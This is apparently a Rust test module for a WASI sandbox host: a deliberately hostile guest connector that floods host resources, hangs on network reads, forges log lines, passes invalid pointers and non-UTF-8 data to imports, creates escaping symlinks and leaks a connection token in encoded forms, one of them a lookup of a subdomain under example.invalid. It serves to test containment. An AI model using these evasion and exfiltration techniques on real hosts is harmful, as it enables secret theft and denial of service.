//! Behaviours that try to get past the host's containment (issue 11): waits
//! that never end, secrets in spellings a literal match misses, floods of
//! host resources, failures inside WASI calls, and symlinks that leave a
//! granted directory. Each reports what it got, so the host's tests can
//! check that the host (not the connector's good manners) stopped it.

use serde_json::{Value, json};
use wasi::http::outgoing_handler;
use wasi::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};

use crate::connector::provider::log::{Level, log};

/// The actions of this module, with summaries.
pub const ACTIONS: &[(&str, &str)] = &[
    (
        "tcp-read",
        "Connects to `addr` and reads until the peer answers (a peer that never does hangs).",
    ),
    (
        "http-unfinished-body",
        "POSTs to `url` a body declared as 1000 bytes, sends 10, and waits for the answer.",
    ),
    (
        "http-flood",
        "Starts `count` GETs to `url` at once, keeps them all, and reports how many the host took.",
    ),
    (
        "header-flood",
        "Creates `count` header sets of `bytes` bytes each and keeps them all.",
    ),
    (
        "pollable-flood",
        "Creates `count` clock pollables and keeps them all.",
    ),
    (
        "log-fields",
        "Writes `records` log records of `fields` fields of `bytes` bytes of `char`.",
    ),
    (
        "log-lines",
        "Logs a message with a newline and a line that looks like the host's own.",
    ),
    (
        "leak-encoded",
        "Puts the connection's `token` where `how` says: escaped-body, base64-log, split-log, cut-log, cut-error, url-host.",
    ),
    ("random-flood", "Asks for `bytes` random bytes at once."),
    (
        "log-bad-pointer",
        "Calls the log import with a message pointer out of bounds.",
    ),
    (
        "log-bad-utf8",
        "Calls the log import with a message that is not UTF-8.",
    ),
    ("exit", "Calls exit(0) inside the call."),
    (
        "symlink",
        "Creates the symlink `link` -> `target` in the first granted directory.",
    ),
];

/// Runs one of this module's actions; `None` if `op` is not one of them.
pub fn invoke(
    op: &str,
    connection: &[(String, String)],
    input: &Value,
) -> Option<Result<String, String>> {
    let text = |key: &str| {
        input
            .get(key)
            .and_then(Value::as_str)
            .unwrap_or("")
            .to_string()
    };
    let number =
        |key: &str, default: u64| input.get(key).and_then(Value::as_u64).unwrap_or(default);
    Some(match op {
        "tcp-read" => tcp_read(&text("addr")),
        "http-unfinished-body" => unfinished_body(&text("url")),
        "http-flood" => http_flood(&text("url"), number("count", 1000) as usize),
        "header-flood" => {
            let value = vec![b'h'; number("bytes", 120 << 10) as usize];
            let mut kept = Vec::new();
            for _ in 0..number("count", 12_000) {
                let fields = Fields::new();
                if fields.append("x-flood", &value).is_err() {
                    return Some(Err(format!("the host refused header set {}", kept.len())));
                }
                kept.push(fields);
            }
            Ok(json!({"kept": kept.len()}).to_string())
        }
        "pollable-flood" => {
            let kept: Vec<_> = (0..number("count", 100_000))
                .map(|_| wasi::clocks::monotonic_clock::subscribe_duration(1 << 40))
                .collect();
            Ok(json!({"kept": kept.len()}).to_string())
        }
        "log-fields" => {
            let ch = text("char").chars().next().unwrap_or('x');
            let value: String = std::iter::repeat_n(ch, number("bytes", 8192) as usize).collect();
            let fields: Vec<(String, String)> = (0..number("fields", 40))
                .map(|i| (format!("f{i}"), value.clone()))
                .collect();
            for _ in 0..number("records", 1000) {
                log(Level::Info, "fields", &fields);
            }
            Ok(json!({"logged": true}).to_string())
        }
        "log-lines" => {
            log(
                Level::Info,
                "first line\n2026-01-01T00:00:00Z ERROR host: forged line\x1b[2J",
                &[],
            );
            Ok(json!({"logged": true}).to_string())
        }
        "leak-encoded" => leak_encoded(
            &crate::additions::secret(connection).unwrap_or_default(),
            &text("how"),
        ),
        "random-flood" => {
            let bytes = wasi::random::random::get_random_bytes(number("bytes", 1 << 40));
            Ok(json!({"got": bytes.len()}).to_string())
        }
        "log-bad-pointer" => {
            // SAFETY: deliberately not a valid string: the pointer is past the
            // end of linear memory. The host must refuse the call.
            let bogus = unsafe {
                std::str::from_utf8_unchecked(std::slice::from_raw_parts(
                    0xFFFF_0000usize as *const u8,
                    64,
                ))
            };
            log(Level::Info, bogus, &[]);
            Ok(json!({"logged": true}).to_string())
        }
        "log-bad-utf8" => {
            let bytes = std::hint::black_box(vec![b'o', b'k', 0xff, 0xfe]);
            // SAFETY: deliberately not UTF-8; the host must refuse the call.
            log(
                Level::Info,
                unsafe { std::str::from_utf8_unchecked(&bytes) },
                &[],
            );
            Ok(json!({"logged": true}).to_string())
        }
        "exit" => std::process::exit(0),
        "symlink" => symlink(&text("link"), &text("target")),
        _ => return None,
    })
}

fn tcp_read(addr: &str) -> Result<String, String> {
    use std::io::Read;
    let mut stream =
        std::net::TcpStream::connect(addr).map_err(|e| format!("connect failed: {e}"))?;
    let mut buf = [0u8; 64];
    let n = stream
        .read(&mut buf)
        .map_err(|e| format!("read failed: {e}"))?;
    Ok(json!({"read": n}).to_string())
}

/// An outgoing request to `url` (`http://host:port/path`) with `headers`.
fn request(
    url: &str,
    method: &Method,
    headers: &[(String, Vec<u8>)],
) -> Result<OutgoingRequest, String> {
    let rest = url.strip_prefix("http://").ok_or("only http:// URLs")?;
    let (authority, path) = match rest.find('/') {
        Some(i) => (&rest[..i], &rest[i..]),
        None => (rest, "/"),
    };
    let fields = Fields::from_list(headers).map_err(|e| format!("bad header: {e:?}"))?;
    let request = OutgoingRequest::new(fields);
    request.set_method(method).map_err(|()| "method")?;
    request
        .set_scheme(Some(&Scheme::Http))
        .map_err(|()| "scheme")?;
    request
        .set_authority(Some(authority))
        .map_err(|()| "authority")?;
    request
        .set_path_with_query(Some(path))
        .map_err(|()| "path")?;
    Ok(request)
}

fn unfinished_body(url: &str) -> Result<String, String> {
    let request = request(
        url,
        &Method::Post,
        &[("content-length".into(), b"1000".to_vec())],
    )?;
    let body = request.body().map_err(|()| "body taken")?;
    let future = outgoing_handler::handle(request, None).map_err(|e| format!("{e:?}"))?;
    let stream = body.write().map_err(|()| "no body stream")?;
    stream
        .blocking_write_and_flush(b"0123456789")
        .map_err(|e| format!("write: {e:?}"))?;
    // Never finished: the server waits for the rest, and so does the guest.
    loop {
        if let Some(result) = future.get() {
            return Ok(json!({"answered": format!("{result:?}").len()}).to_string());
        }
        future.subscribe().block();
    }
}

fn http_flood(url: &str, count: usize) -> Result<String, String> {
    let mut futures = Vec::new();
    let mut refused = 0;
    for _ in 0..count {
        let request = request(url, &Method::Get, &[])?;
        let body = request.body().map_err(|()| "body taken")?;
        match outgoing_handler::handle(request, None) {
            Ok(future) => {
                let _ = OutgoingBody::finish(body, None);
                futures.push(future);
            }
            Err(_) => refused += 1,
        }
    }
    // Wait for each: a refused one answers at once with an error.
    let mut failed = 0;
    for future in &futures {
        loop {
            if let Some(result) = future.get() {
                if !matches!(result, Ok(Ok(_))) {
                    failed += 1;
                }
                break;
            }
            future.subscribe().block();
        }
    }
    Ok(json!({"started": futures.len(), "refused": refused, "failed": failed}).to_string())
}

fn leak_encoded(token: &str, how: &str) -> Result<String, String> {
    match how {
        "escaped-body" => {
            let escaped: String = token
                .chars()
                .map(|c| format!("\\u{:04x}", c as u32))
                .collect();
            Ok(format!(r#"{{"token":"{escaped}"}}"#))
        }
        "base64-log" => {
            log(
                Level::Info,
                &format!("Authorization: Basic {}", base64(&format!("user:{token}"))),
                &[],
            );
            Ok(json!({"leaked": how}).to_string())
        }
        "split-log" => {
            let half = token.len() / 2;
            log(Level::Info, &format!("first half {}", &token[..half]), &[]);
            log(Level::Info, &format!("{} second half", &token[half..]), &[]);
            Ok(json!({"leaked": how}).to_string())
        }
        "cut-log" => {
            let message = format!("{}{token}", "x".repeat(4096 - token.len() / 2));
            log(
                Level::Info,
                &message,
                &[("cut".into(), format!("{}{token}", "y".repeat(1020)))],
            );
            Ok(json!({"leaked": how}).to_string())
        }
        "cut-error" => Err(format!("{}{token}", "e".repeat(4096 - token.len() / 2))),
        "url-host" => crate::reach::invoke(
            "http-get",
            &[],
            &json!({"url": format!("http://{}.example.invalid/", token.to_ascii_lowercase())}),
        )
        .unwrap_or(Err("no http-get".into())),
        other => Err(format!("unknown way {other:?}")),
    }
}

/// Standard base64 with padding (small, so the guest needs no crate for it).
fn base64(text: &str) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in text.as_bytes().chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(ALPHABET[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn symlink(link: &str, target: &str) -> Result<String, String> {
    let dirs = wasi::filesystem::preopens::get_directories();
    let (dir, _) = dirs.first().ok_or("no granted directory")?;
    dir.symlink_at(target, link)
        .map(|()| json!({"linked": true}).to_string())
        .map_err(|e| format!("symlink failed: {e:?}"))
}
